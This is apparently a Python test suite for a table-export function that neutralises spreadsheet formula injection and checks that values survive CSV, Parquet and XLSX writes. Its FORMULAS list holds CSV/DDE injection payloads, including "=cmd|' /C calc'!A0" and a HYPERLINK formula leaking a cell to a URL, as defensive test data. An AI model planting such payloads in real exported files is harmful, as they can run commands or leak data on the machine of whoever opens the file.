"""Tables that leave: no text runs in a spreadsheet, values come back, a file is written whole or not at all."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from innovatory.language.mistakes import Mistake
from innovatory.records.export import neutral, write_table

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\tplain",
    "\rplain",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"open")',
    "  =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b@x",
    "\n=1+1",
    "-",
    "-5+cmd|' /C calc'!A0",
    "--5",
    "-5\n",
]
HARMLESS = [
    "",
    "Lighthouse Robotics",
    "灯塔机器人",
    "a=b",
    "R&D-intensive",
    "a, b",
    'say "hi"',
    "2020-01-01",
    "'quoted",
    "a\nb",
    "x;y",
]
NUMBERS = ["-5", "+5", "-1,234.50", "-5%", "12", "-1.5e-3"]


def first_signs(text: str) -> set[str]:
    """What every cell begins with that some spreadsheet makes of a text, with whatever delimiter, blanks passed over."""
    cells = [text]
    for delimiter in (";", "\t", "\n", "\r"):
        cells = [part for cell in cells for part in cell.split(delimiter)]
    return {cell.lstrip(' "\u3000\ufeff\u200b')[:1] for cell in cells}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert neutral(text)[0] == "'"
    assert neutral(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_other_texts_and_signed_numbers_stay(text: str) -> None:
    assert neutral(text) == text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a\t@x", "a\t'@x"),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\r\n +x", "a\r\n '+x"),
        ('a;"=1+1', "a;\"'=1+1"),
        ("a;＝1;=2", "a;'＝1;'=2"),
    ],
)
def test_a_formula_behind_another_delimiter_or_a_line_break_is_marked(text: str, told: str) -> None:
    assert neutral(text) == told


@given(st.text(alphabet="=+-@＝＋－＠\t\r\n;,'\" a1%.\u3000\ufeff"))
def test_no_cell_begins_with_a_sign_that_runs(text: str) -> None:
    if neutral(text) != text or not text.lstrip("+-")[:1].isdigit():
        assert not first_signs(neutral(text)) & set("=+-@＝＋－＠")


@given(st.lists(st.text(alphabet="=+-@＝\t\r\n;,'\" a1%.\u3000"), min_size=1, max_size=8))
def test_a_column_is_neutralised_as_its_texts_are(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("out") / "a.csv"
    write_table(pl.DataFrame({"n": range(len(texts)), "text": texts}), path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert [row[1] for row in csv.reader(file)][1:] == [neutral(text) for text in texts]


def test_headers_are_neutralised_and_numbers_untouched(tmp_path: Path) -> None:
    write_table(pl.DataFrame({"=A1": [-1.5, None], "+n": [-3, 4], "text": ["-5", None]}), tmp_path / "a.csv")
    content = (tmp_path / "a.csv").read_bytes()
    assert content == b"\xef\xbb\xbf'=A1,'+n,text\n-1.5,-3,-5\n,4,\n"


def test_headers_that_become_alike_are_refused(tmp_path: Path) -> None:
    with pytest.raises(Mistake, match="alike"):
        write_table(pl.DataFrame({"=A": [1], "'=A": [2]}), tmp_path / "a.csv")
    assert list(tmp_path.iterdir()) == []


def test_categories_are_texts(tmp_path: Path) -> None:
    column = pl.Series("kind", ["=x", "b"], dtype=pl.Enum(["=x", "b"]))
    write_table(column.to_frame(), tmp_path / "a.csv")
    assert pl.read_csv(tmp_path / "a.csv")["kind"].to_list() == ["'=x", "b"]


def table() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "name": ["灯塔", None, 'a "b", c;d'],
            "on": [date(2020, 1, 2), None, date(2021, 12, 31)],
            "amount": [-1.25, 0.1, None],
            "staff": [1, None, -3],
            "in_use": [True, False, None],
        }
    )


def test_values_come_back_from_csv_and_parquet(tmp_path: Path) -> None:
    write_table(table(), tmp_path / "a.csv")
    write_table(table().lazy(), tmp_path / "a.parquet")
    assert pl.read_csv(tmp_path / "a.csv", try_parse_dates=True).equals(table())
    assert pl.read_parquet(tmp_path / "a.parquet").equals(table())


def test_values_come_back_from_a_sheet(tmp_path: Path) -> None:
    write_table(table(), tmp_path / "a.xlsx")
    assert pl.read_excel(tmp_path / "a.xlsx").equals(table())


def test_a_sheet_holds_no_formula_and_no_link_whatever_a_text_says(tmp_path: Path) -> None:
    texts = [*FORMULAS, "https://example.org", "mailto:a@example.org", "12"]
    write_table(pl.DataFrame({"=1+1": texts}), tmp_path / "a.xlsx")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in archive.namelist() if "_rels/sheet" in name]
    assert "<f" not in sheet
    assert "hyperlink" not in sheet
    assert sheet.count('t="s"') == 1 + len(texts)
    assert pl.read_excel(tmp_path / "a.xlsx").columns == ["=1+1"]


def test_long_numbers_and_early_days_keep_their_digits_in_a_sheet(tmp_path: Path) -> None:
    write_table(pl.DataFrame({"n": [2**53 + 1], "on": [date(1898, 5, 1)]}), tmp_path / "a.xlsx")
    assert pl.read_excel(tmp_path / "a.xlsx").row(0) == ("9007199254740993", "1898-05-01")


def test_an_existing_file_is_replaced(tmp_path: Path) -> None:
    for ending in ("csv", "parquet", "xlsx"):
        path = tmp_path / f"a.{ending}"
        path.write_bytes(b"old")
        write_table(table(), path)
        assert path.read_bytes() != b"old"
    assert len(list(tmp_path.iterdir())) == 3


def test_what_fails_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"old")
    broken = pl.LazyFrame({"a": ["x"]}).select(pl.col("a").cast(pl.Int64))
    with pytest.raises(pl.exceptions.PolarsError):
        write_table(broken, path)
    assert [(one.name, one.read_bytes()) for one in tmp_path.iterdir()] == [("a.csv", b"old")]


@pytest.mark.parametrize("name", ["a.txt", "a", "a.xls"])
def test_another_ending_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(Mistake) as told:
        write_table(table(), tmp_path / name)
    assert told.value.kind == "file"
    assert ".xlsx" in told.value.zh


@pytest.mark.parametrize("name", ["a.csv", "a.parquet", "a.xlsx"])
def test_a_folder_that_is_not_there_is_told(tmp_path: Path, name: str) -> None:
    with pytest.raises(Mistake) as told:
        write_table(table(), tmp_path / "nowhere" / name)
    assert told.value.kind == "file"


def test_a_text_longer_than_a_cell_is_refused_not_cut(tmp_path: Path) -> None:
    frame = pl.DataFrame({"text": ["x" * 32_768]})
    with pytest.raises(Mistake, match="does not fit"):
        write_table(frame, tmp_path / "a.xlsx")
    write_table(frame, tmp_path / "a.csv")


def test_lists_are_refused_in_flat_files(tmp_path: Path) -> None:
    frame = pl.DataFrame({"many": [[1, 2]]})
    for name in ("a.csv", "a.xlsx"):
        with pytest.raises(Mistake, match="lists"):
            write_table(frame, tmp_path / name)
    write_table(frame, tmp_path / "a.parquet")


def test_a_table_without_rows_keeps_its_headers(tmp_path: Path) -> None:
    for name in ("a.csv", "a.xlsx"):
        write_table(table().clear(), tmp_path / name)
    assert pl.read_csv(tmp_path / "a.csv").columns == table().columns
    assert pl.read_excel(tmp_path / "a.xlsx", raise_if_empty=False).columns == table().columns
